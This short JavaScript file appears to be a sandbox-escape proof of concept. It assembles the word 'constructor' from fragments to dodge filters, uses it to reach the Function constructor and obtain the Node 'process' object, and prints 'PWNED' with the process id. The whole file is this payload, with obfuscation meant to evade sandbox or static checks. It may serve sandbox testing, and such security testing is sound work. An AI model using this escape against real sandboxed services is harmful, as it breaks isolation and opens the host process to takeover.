'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const s = {};
const k = ['k', 'x'].join('');
s[k] = t;
const o = Date.now() > 1 ? s[k] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
